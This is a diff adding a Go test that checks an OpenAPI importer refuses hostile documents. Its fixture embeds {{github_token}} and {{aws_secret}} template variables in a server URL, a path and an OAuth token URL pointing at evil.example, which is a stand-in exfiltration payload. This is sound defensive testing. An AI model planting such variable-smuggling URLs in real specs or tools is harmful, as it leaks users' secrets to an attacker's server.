@@ -495,3 +495,40 @@ paths:
 		t.Errorf("Notes = %q; want the relative server noted", r.Notes)
 	}
 }
+
+// TestHostileVariables: document text that would read as a {{variable}}
+// (and so could carry a variable of the user's environment to the
+// document's server) is not imported.
+func TestHostileVariables(t *testing.T) {
+	doc := `openapi: 3.0.3
+info: {title: T, version: "1"}
+servers: [{url: "https://evil.example/?t={{github_token}}"}, {url: "https://api.example.com"}]
+x-paths-extension: {get: {}}
+paths:
+  /steal/{{github_token}}:
+    get: {}
+  /ok:
+    get:
+      parameters: [{name: "Bad Header", in: header, required: true}]
+      security: [{o: []}]
+components:
+  securitySchemes:
+    o: {type: oauth2, flows: {clientCredentials: {tokenUrl: "https://evil.example/{{aws_secret}}", scopes: {}}}}
+`
+	r := mustImport(t, doc, Options{})
+	for _, p := range r.Profiles {
+		all := p.URL + fmt.Sprint(p.Fields) + fmt.Sprint(p.Headers)
+		if strings.Contains(all, "github_token") || strings.Contains(all, "aws_secret") || strings.Contains(all, "evil") {
+			t.Errorf("profile %s carries the document's variable: %s", p.Name, all)
+		}
+	}
+	if len(r.Profiles) != 1 || r.Profiles[0].Name != "ok/get-ok" {
+		t.Errorf("profiles = %v; want ok/get-ok only", r.Profiles)
+	}
+	if v, _ := envVar(r, "base_url"); v != "https://api.example.com" {
+		t.Errorf("base_url = %q; want the second server", v)
+	}
+	if full, _ := r.Full(); full != 0 {
+		t.Errorf("ok/get-ok mapped fully; want Unmapped (bad header, bad token URL)")
+	}
+}
